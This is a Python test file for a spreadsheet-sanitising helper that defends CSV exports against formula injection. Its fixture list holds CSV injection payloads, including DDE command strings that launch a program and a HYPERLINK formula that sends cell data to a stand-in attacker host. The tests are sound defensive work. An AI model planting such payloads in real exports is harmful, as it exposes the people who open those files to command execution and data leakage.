"""common.spreadsheets: formula-like text never reaches a spreadsheet as a formula (OWASP,
"CSV Injection"), in CSV files."""

import csv
import io

import pytest

from common import spreadsheets

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0bSUM(1,2)",
    "\uff0d1",
    "\uff20SUM(1,2)",
]
SAFE = ["Numérique responsable", "", "a=b", "Éco-conception", " espace", "'déjà cité"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_gets_an_apostrophe(payload):
    assert spreadsheets.formula_like(payload)
    assert spreadsheets.cell_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", [*SAFE, 3, -5, 2.5, None])
def test_other_values_are_left_as_they_are(value):
    assert not spreadsheets.formula_like(value)
    assert spreadsheets.cell_safe(value) == value


def test_csv_writer_makes_every_cell_safe():
    out = io.StringIO()
    writer = spreadsheets.csv_writer(out, lineterminator="\n")
    writer.writerow(["id", "titre"])
    writer.writerows([[index, payload] for index, payload in enumerate(PAYLOADS)])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["id", "titre"]
    assert [row[1] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert [row[0] for row in rows[1:]] == [str(index) for index in range(len(PAYLOADS))]
